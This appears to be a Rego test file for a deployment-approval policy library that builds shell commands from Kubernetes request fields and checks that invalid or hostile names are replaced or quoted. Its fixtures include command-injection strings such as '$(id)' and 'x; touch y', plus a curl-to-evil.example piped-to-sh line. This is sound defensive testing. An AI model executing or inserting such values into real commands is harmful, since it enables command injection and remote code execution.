package deploygate.lib.command_test

import data.deploygate.lib.command

test_defined_whatever_is_missing if {
	command.approve("friday", "") == `novapay approve friday WORKLOAD --change DIGEST --reason "…"` with input as {}
}

request(name, namespace) := {
	"request": {"kind": {"kind": "Deployment"}, "name": name, "namespace": namespace},
	"change": {"digest": "sha256:12ab"},
}

approve(document) := found if found := command.approve("hotfix", ["--incident", "inc-1"]) with input as document

approval(workload, digest) := concat("", [
	"novapay approve hotfix ", workload, " --incident inc-1 --change ", digest, ` --reason "…"`,
])

hostile := {
	"x; touch y", "$(id)", "`id`", "-rf", "a b", "a\nb", "a'b", "a\"b", "a|b", "a&b", "a>b", "a\\b", "*", "~", "#", "A", "é", "ａ",
	".", "a.", ".a", "a..b", "a-", "-a", "a.-b", "a/b", "a_b",
}

test_names_that_kubernetes_allows if {
	every name in {"payments", "a", "7", "a.b-c.d", "0a"} {
		approve(request(name, "pay")) == approval(sprintf("deployment/%s -n pay", [name]), "sha256:12ab")
		command.shown(name) == name
	}
}

test_names_that_kubernetes_does_not_allow_are_in_no_command if {
	every name in hostile {
		approve(request(name, name)) == approval("deployment/INVALID-NAME -n INVALID-NAME", "sha256:12ab")
		endswith(command.shown(name), " (not a valid name)")
	}
	approve(request("a.b", "a.b")) == approval("deployment/a.b -n INVALID-NAME", "sha256:12ab")
	approve(request(sprintf("%0254d", [0]), "pay")) == approval("deployment/INVALID-NAME -n pay", "sha256:12ab")
	command.name(7, "NAME") == command.invalid
}

test_name_that_is_still_to_be_generated if {
	approve(request("", "pay")) == approval("deployment/NAME -n pay", "sha256:12ab")
	approve(request(null, "pay")) == approval("deployment/NAME -n pay", "sha256:12ab")
}

test_shown_has_nothing_that_a_shell_could_read if {
	command.shown("x; curl -s https://evil.example/i.sh | sh #") == `"x??curl?-s?https://evil.example/i.sh???sh??" (not a valid name)`
	command.shown(7) == "(not a valid name)"
}

test_kind_and_digest_that_are_none if {
	every kind in {"a b", "", "$(id)"} {
		document := {"request": {"kind": {"kind": kind}, "name": "a", "namespace": "b"}, "change": {"digest": "$(id)"}}
		approve(document) == approval("WORKLOAD", "DIGEST")
	}
	approve(object.union(request("a", "b"), {"change": {"digest": "sha256:$(id)"}})) == approval("deployment/a -n b", "DIGEST")
}

test_what_is_not_plainly_safe_is_quoted if {
	command.line(["echo", "a b", "$(id)", "it's", "", "…", "a=b"]) == `echo 'a b' '$(id)' 'it'\''s' '' "…" a=b`
}
